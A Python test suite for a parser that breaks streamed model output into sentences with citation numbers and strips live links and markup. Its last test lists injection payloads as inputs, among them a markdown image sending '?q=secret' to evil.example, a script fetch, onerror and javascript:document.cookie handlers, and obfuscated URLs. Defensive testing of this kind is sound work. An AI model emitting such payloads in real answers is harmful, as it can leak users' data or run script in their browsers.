"""A model's words become sentences with numbers, whatever pieces they come in, and nothing in them is live."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from qa.generate import MAX_SENTENCE, Sentences, Written, inert

PARTS = [
    "It rained",
    "U.S. trade",
    ".",
    ". ",
    "! ",
    "[1]",
    "[2, 3]",
    " [4]",
    "［５】",
    "\n",
    "- ",
    "1. ",
    "**bold**",
    "[",
    "]",
]
PARTS += ["<think>", "</think>", "<b>", "![x](http://evil.example/a)", "é", "😀", "\u200b", "(", ")", "？", " Then"]
TEXTS = st.lists(st.sampled_from(PARTS), max_size=25).map("".join)


def read(text: str, size: int = 10_000) -> list[Written]:
    sentences = Sentences()
    found = [written for at in range(0, len(text), size) for written in sentences.feed(text[at : at + size])]
    return found + sentences.close()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("It rained [1]. It froze. [2] So [3, 4].", [("It rained.", (1,)), ("It froze.", (2,)), ("So.", (3, 4))]),
        ("It rained [1][2].", [("It rained.", (1, 2))]),
        ("It rained［１］. It froze【2†source】.", [("It rained.", (1,)), ("It froze.", (2,))]),
        ("It rained [1-3] [^7] [Source 8].", [("It rained.", (1, 2, 3, 7, 8))]),
        ("It rained [99], [0] and [2024].", [("It rained, and.", (99, 0, 2024))]),
        ("It rained.", [("It rained.", ())]),
        ("[1] It rained.\n[2] It froze.", [("It rained.", (1,)), ("It froze.", (2,))]),
        ("He met Mr. Li in the U.S. in May [1].", [("He met Mr. Li in the U.S. in May.", (1,))]),
        ("<think>What now [9]? Hm.</think>\n\nIt rained [1].", [("It rained.", (1,))]),
        ("<think>And so on for ever", []),
        ("## Rain\n\n", [("Rain", ())]),
        ("It [[2]1] rained.", [("It (1) rained.", (2,))]),
        ("...\n\n[1]\n", []),
    ],
)  # fmt: skip
def test_sentences_and_their_numbers(text: str, expected: list[tuple[str, tuple[int, ...]]]) -> None:
    assert [(written.text, written.numbers) for written in read(text)] == expected


def test_points_of_a_list_are_points() -> None:
    found = read("They did this:\n- **Clear** rules [1]. They help.\n* Visits [2]\n3) Talks")
    assert [(w.text, w.is_item) for w in found] == [
        ("They did this:", False),
        ("Clear rules.", True),
        ("They help.", False),
        ("Visits", True),
        ("Talks", True),
    ]


def test_a_sentence_is_given_when_the_next_begins_and_no_sooner() -> None:
    sentences = Sentences()
    assert sentences.feed("It rained.") == []
    assert sentences.feed(" [") == []
    assert sentences.feed("1") == []
    assert sentences.feed("]") == []
    assert sentences.feed(" Then") == [Written("It rained.", (1,))]
    assert sentences.close() == [Written("Then")]


def test_what_never_ends_is_cut() -> None:
    found = read("word " * 1_000, size=3)
    assert len(found) > 3
    assert all(len(written.text) <= MAX_SENTENCE + 3 for written in found)


@pytest.mark.parametrize("piece", ["a-", "a.", "(…)", "[", "[x](", "<b "])
def test_an_answer_in_one_piece_is_read_at_once(piece: str) -> None:
    """Whatever a server that does not stream sends: nobody else is answered meanwhile."""
    began = time.monotonic()
    read(piece * 25_000, size=10**6)
    assert time.monotonic() - began < 10


def said(written: list[Written]) -> str:
    """Letters and digits alone: signs that stand by themselves are dropped, as a sentence of nothing else is."""
    return "".join(character for w in written for character in w.text if character.isalnum())


@given(TEXTS, st.integers(1, 9))
def test_the_pieces_in_which_it_comes_make_no_difference_to_the_words(text: str, size: int) -> None:
    """Nothing is lost or told twice. Where a sentence ends may hang on what was known: `U.S.` and then `Then`; so may
    what is left out as a thought of which only the end is told, and whether a marker after mere signs is theirs."""
    assume(text.count("</think") <= text.lstrip().startswith("<think"))
    pieces, letters = read(text, size), read(text, 1)
    assert said(pieces) == said(letters)


@pytest.mark.parametrize("size", range(1, 20))
def test_the_pieces_make_no_difference_to_what_is_cited(size: int) -> None:
    written = read(
        "It rained [1]. Then the sun [2, 3] came out.[4] Trade grew by 4.5 % [5-6]!\n- Fish [7]\nDone [8]", size
    )
    assert [w.numbers for w in written] == [(1,), (2, 3, 4), (5, 6), (7,), (8,)]


@given(TEXTS)
def test_no_sentence_holds_anything_live(text: str) -> None:
    for written in read(text):
        assert not re.search(r"\w+://|[\[\]<>\n\r]|\*\*|[\u200b]", written.text)
        assert any(character.isalnum() for character in written.text)


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://evil.example/?q=secret)",
        "[click](https://evil.example)",
        "[click][1]\n[1]: https://evil.example",
        "<https://evil.example>",
        "https://evil.example/?q=1",
        "HTTPS://EVIL.EXAMPLE",
        "//evil.example/x",
        "www.evil.example",
        "evil.example/?q=secret",
        "evil.example?q=secret",
        "<img src=https://evil.example/x>",
        "<img src='//evil.example/x' onerror=alert(1)",
        "<script>fetch('https://evil.example')</script>",
        "h<b></b>ttps://evil.example",
        "ht\u200btps://evil.example/",
        "[a](javascript:alert(document.cookie))",
        "[x](http://evil.example/(a)(b))",
        "data:text/html;base64,ZXZpbC5leGFtcGxl",
        "[![](https://evil.example/a)](https://evil.example/b)",
        "[ht](x)tps://evil.example/b",
    ],
)
def test_links_and_markup_are_gone_or_dead(text: str) -> None:
    assert not re.search(r"//|www\.|evil\.example[/?]|script:|data:|<|>|\]|onerror", inert(f"See {text} for more"))


@pytest.mark.parametrize(
    "text",
    [
        "It cost $3.5 billion (5% more) in 2023/24.",
        "He said: “No, and/or maybe.”",
        "3 * 4 = 12; a_b is x.",
        "U.S. v. Li",
    ],
)
def test_plain_words_stay_as_they_are(text: str) -> None:
    assert inert(text) == text
